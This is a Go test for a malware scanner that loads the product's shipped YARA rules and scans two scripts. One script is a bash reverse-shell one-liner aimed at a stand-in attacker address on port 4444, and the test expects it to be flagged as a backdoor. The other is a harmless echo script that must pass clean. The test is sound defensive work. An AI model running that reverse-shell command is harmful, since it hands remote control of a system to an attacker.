package scan

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/bulwarkhq/bulwark/content/yara"
	"github.com/bulwarkhq/bulwark/engine/verdict"
	"github.com/bulwarkhq/bulwark/test/need"
)

// The rules that the product ships, in a folder below the sources as the package
// installs them, compiled and used by real scanner processes.
func TestShippedRules(t *testing.T) {
	need.Root(t)
	p, _ := newTestPool(t, func(c *Config) {
		c.Env = []string{engineVariable + "=1"}
		if err := os.Remove(filepath.Join(c.Sources[0], "a.txt")); err != nil {
			t.Fatal(err)
		}
		if err := os.CopyFS(filepath.Join(c.Sources[0], "bulwark"), yara.FS()); err != nil {
			t.Fatal(err)
		}
	})
	v, err := scan(t, p, "#!/bin/bash\nbash -i >& /dev/"+"tcp/192.0.2.4/4444 0>&1\n")
	if err != nil || !v.Infected() {
		t.Fatalf("%+v, %v", v, err)
	}
	m := v.Primary()
	if m.Threat != "Backdoor:Shell/Reverse.Bash" || m.Type != verdict.Malware || m.Source != "bulwark/reverse_shell.yar" {
		t.Errorf("%+v", m)
	}
	if v, err := scan(t, p, "#!/bin/bash\necho hello\n"); err != nil || v.Infected() {
		t.Errorf("%+v, %v", v, err)
	}
}
